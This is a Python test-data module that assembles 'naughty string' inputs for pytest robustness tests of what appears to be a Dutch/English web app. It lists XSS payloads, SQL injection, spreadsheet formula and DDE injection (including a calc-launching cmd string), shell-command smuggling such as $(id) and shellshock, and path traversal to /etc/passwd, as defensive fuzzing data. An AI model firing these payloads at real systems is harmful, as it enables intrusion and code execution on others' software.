"""Strings that break other programs: the Big List, and by sort more than six hundred of our own making."""

from __future__ import annotations

from itertools import product

import pytest

from tests.data import BIG_LIST
from tests.exports.test_plan_workbook import HOSTILE as CELLS
from tests.journeys.hostile import HOSTILE
from tests.report.test_hostile import TEXTS

_SIGNS = (
    *range(0x00, 0x20), *range(0x7F, 0xA1), 0xAD, 0x34F, 0x61C, 0x115F, 0x1680, 0x180E, *range(0x2000, 0x2010),
    *range(0x2028, 0x2030), *range(0x205F, 0x2070), 0x3000, 0x3164, 0xE000, 0xF8FF, 0xFDD0, 0xFDEF,
    *range(0xFE00, 0xFE10), 0xFEFF, 0xFFA0, *range(0xFFF9, 0x10000), 0x1D173, 0x1FFFE, 0x1FFFF, 0xE0001,
    0xE0041, 0xE007F, 0xF0000, 0x10FFFF,
)  # fmt: skip
"""Characters that nobody sees, that turn text round, or that are no characters."""
_BREAKOUTS = ("", "'>", '">', "-->", "</title></textarea>", "</option></style></script>")
_MARK_UP = (
    "<script>alert(1)</script>", "<ScRiPt src=//x.test></sCrIpT>", "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>", "<body onload=alert(1)>", "<a href=javascript:alert(1)>x</a>",
    "<iframe srcdoc='<b>x'></iframe>", "<math><mi>x", "<style>@import'//x.test'</style>",
    "<input autofocus onfocus=alert(1)>", "<base href=//x.test>", "<form action=//x.test>",
    "<meta http-equiv=refresh content=0;url=//x.test>", "<details open ontoggle=alert(1)>", "<!--", "<![CDATA[",
    "<?xml?>", "&lt;script&gt;", "&#60;b&#62;", "&#x3C;b>", "&NotEqualTilde;", "<b", "</main></body></html>",
    "<x onclick=alert(1)>y",
)  # fmt: skip
_FORMULAS = tuple(
    f"{first}{rest}"
    for first, rest in product(
        ("=", "+", "-", "@", "\t=", "'=", " =", "\u200b=", "＝", "；="),
        ("1+1", "cmd|' /C calc'!A0", 'HYPERLINK("//x.test")', "SUM(A1:A9)*cmd|'/c'!A1", "DDE(1)"),
    )
)
_CODE = (
    "' OR 1=1 --|'; DROP TABLE sheets; --|1;SELECT pg_sleep(9)|\") OR (\"1\"=\"1|%27%20OR|\\'; --|/*|*/"
    "|0 UNION SELECT 1|{{ 7*7 }}|{% raw %}|{{ self.__init__ }}|{%|{#|${7*7}|#{7*7}|<%= 7*7 %>|{0}|{name}"
    "|{0.__class__}|%s%n%x|%(x)d|%|%%|../../etc/passwd|..\\..\\x|/dev/null|file:///etc/passwd|C:\\x|CON|NUL|~"
    "|$HOME|`id`|$(id)|; id|& id|() { :;}; id|null|NULL|None|nil|undefined|undef|NaN|Infinity|-Infinity|true"
    "|False|0|-0|1e5|1E+02|0x0|0xff|007|1/0|1,000.00|١٢٣|999999999999999999999999|-1|1_000|.|..|,|'|\"|''|\"\"|`"
    "|\\|\\\\|\\n|\\0|\\u0000|\\x00|%00|%0d%0aSet-Cookie:x=y|?a=b&c=d|http://x.test/|https://x.test|//x.test"
    "|javascript:alert(1)|data:text/html,<b>|mailto:a@x.test|www.x.test|a@x.test|![x](//x.test/a.png)"
    "|[x](//x.test)|<http://x.test>|# kop|* lijst|> citaat|---|```|~~x~~|**x**|:red[x]|:smile:|$$x$$|(x)|((|))"
    "|BT /F1 12 Tf|endstream endobj|%PDF-1.7|<< /JS (x) >>|_x0041_|_x000D_|&amp;amp;|xmlns=''|<!ENTITY x 'y'>"
    "|__proto__|constructor|toString|hasOwnProperty|__class__|eval(1)|import os|-*- coding|#!/bin/sh|token|theme"
    "|now.x|go"
)  # fmt: skip
_WRITTEN = (
    "Ω≈ç√∫˜µ≤≥÷|¡™£¢∞§¶•ªº–≠|ÅÍÎÏ˝ÓÔÒÚÆ☃|Œ„´‰ˇÁ¨ˆØ∏”’|ЁЂЃЄЅІЇЈЉЊ|⁰⁴⁵₀₁₂|田中さんにあげて下さい"
    "|사회과학원 어학연구소|社會科學院語學研究所|𠜎𠜱𠝹𠱓|ヽ༼ຈل͜ຈ༽ﾉ|(｡◕∀◕｡)|(╯°□°）╯︵ ┻━┻|😍|👩🏽|👨‍👩‍👧‍👦"
    "|🇳🇱🇳|🏴󠁧󠁢󠁥󠁮󠁧󠁿|1️⃣ 2️⃣|１２３|١٢٣٤|بِسْمِ اللَّهِ|הָיְתָה test|مرحبا <b> שלום|ﷺﷺ|﷽|ʇǝɯɐ ʇᴉs ɹolop"
    "|Ｔｈｅ ｑｕｉｃｋ|𝐓𝐡𝐞 𝓺𝓾𝓲𝓬𝓴|𝕋𝕙𝕖|⒯⒣⒠|Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞a̴l̷g̵o̶|ﬁ ﬂ ﬃ ſ|ß ẞ İ ı ŉ|Å Å Å|é é|ǅ ǆ Ǆ|ﾞ｡ｶﾞ|หนึ่งสอง"
    "|ქართული|नमस्ते दुनिया|ॐ मणि|᚛ᚄᚓᚐᚋ᚜|ⵣ ⴰⵎⴰⵣⵉⵖ"
)  # fmt: skip
_LONG = (
    "a" * 120, "b" * 121, "c" * 200, "d" * 201, "e" * 5_000, "🎓" * 200, "é" * 199, "<" * 200, "&" * 201,
    " f" * 200, "\n" * 500,
)  # fmt: skip
NAUGHTY = tuple(
    dict.fromkeys(
        text.encode("utf-8", "ignore").decode()  # half an emoji cannot be sent: see `NOT_UTF8`
        for text in (
            *HOSTILE, *TEXTS.values(), *CELLS, *(f"voor{chr(sign)}na" for sign in _SIGNS), *map(chr, _SIGNS[65:]),
            *(out + inside for out, inside in product(_BREAKOUTS, _MARK_UP)),
            *_FORMULAS, *_CODE.split("|"), *_WRITTEN.split("|"), *_LONG,
        )
    )
)  # fmt: skip
_OTHERS = tuple(text for text in dict.fromkeys(BIG_LIST) if text not in NAUGHTY)
LISTS = {"own": NAUGHTY[::2], "own-rest": NAUGHTY[1::2], "big-list": _OTHERS[::2], "big-list-rest": _OTHERS[1::2]}
every_list = pytest.mark.parametrize("words", LISTS.values(), ids=LISTS)
"""Run a test on our own strings and on those of the Big List that are not among them, each in two halves."""
every_list_in_a_language = pytest.mark.parametrize(
    ("words", "language"), [(words, ("nl", "en")[half % 2]) for half, words in enumerate(LISTS.values())], ids=LISTS
)
"""The same in pairs: of our own and of the Big List one half in Dutch, the other in English."""
NOT_UTF8 = (b"%ED%A0%80", b"%FF", b"%C0%AF", b"%F8%88%80%80%80", b"\xc3\xa9", b"%00%FE%FF")
"""Bodies of a form that are no text."""
